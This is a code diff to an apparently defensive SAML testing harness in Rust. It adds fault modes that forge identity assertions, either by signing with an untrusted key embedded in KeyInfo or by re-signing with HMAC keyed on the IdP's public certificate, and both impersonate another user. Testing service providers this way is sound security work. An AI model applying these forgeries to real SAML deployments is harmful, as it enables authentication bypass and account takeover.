@@ -8,6 +8,7 @@
 pub mod authn_request;
 pub mod encrypt;
 pub mod faults;
+pub mod forged_signatures;
 pub mod form;
 pub mod logout;
 pub mod metadata;
@@ -256,12 +257,33 @@ pub fn issue(
                 credential = &credentials.untrusted;
                 content.signatures.certificate = credentials.untrusted.cert_base64_wrapped().to_owned();
             }
+            // The attacker signs what they like with their own key: the
+            // impersonated identity, with the key itself in KeyInfo.
+            SamlFault::UntrustedKeyValue => {
+                credential = &credentials.untrusted;
+                content.subject.name_id = impersonate.clone();
+            }
+            // Every RSA value is replaced by an HMAC, and is made with the
+            // attacker's key so that no genuine signature over the forged
+            // identity ever exists; KeyInfo keeps the IdP's certificate.
+            SamlFault::HmacWithCertificate => {
+                credential = &credentials.untrusted;
+                content.subject.name_id = impersonate.clone();
+            }
             SamlFault::CommentInNameId => content.subject.name_id = format!("{impersonate}{}", faults::COMMENT_SUFFIX),
             SamlFault::EncryptedUnsigned => content.subject.name_id = impersonate.clone(),
             _ => {}
         }
     }
     let unsigned = response::render(&content);
+    // KeyInfo goes in before signing: the Response signature covers the
+    // Assertion's KeyInfo, so it must be signed as it is sent.
+    let unsigned = match fault.map(|(plan, _, _)| plan.fault) {
+        Some(SamlFault::UntrustedKeyValue) => {
+            forged_signatures::key_info_as_key_value(&unsigned, &credentials.untrusted)?
+        }
+        _ => unsigned,
+    };
     let encryption = encryption_for(fault.map(|(plan, _, _)| plan.fault), credentials)?;
     let signed = match encryption {
         // Okta signs the Assertion, encrypts it, then signs the Response over
@@ -271,6 +293,19 @@ pub fn issue(
             let ids = (encrypt_id(&content.assertion_id, 'd'), encrypt_id(&content.assertion_id, 'k'));
             let encrypted = encrypt::encrypt_assertion(&assertion_signed, &recipient, (&ids.0, &ids.1))?;
             sign::sign_response_template(&encrypt::without_plaintext_namespaces(&encrypted), credential)?
+        }
+        None if fault.is_some_and(|(plan, _, _)| plan.fault == SamlFault::HmacWithCertificate) => {
+            use forged_signatures::{SignatureOf, resign_with_hmac};
+            let key = forged_signatures::certificate_pem_key(&credentials.signing);
+            let mut text = sign::sign_assertion_template(&unsigned, credential)?;
+            if content.signatures.assertion {
+                text = resign_with_hmac(&text, SignatureOf::Assertion, &key)?;
+            }
+            text = sign::sign_response_template(&text, credential)?;
+            if content.signatures.response {
+                text = resign_with_hmac(&text, SignatureOf::Response, &key)?;
+            }
+            text
         }
         None if content.signatures.response || content.signatures.assertion => {
             sign::sign_templates(&unsigned, credential)?
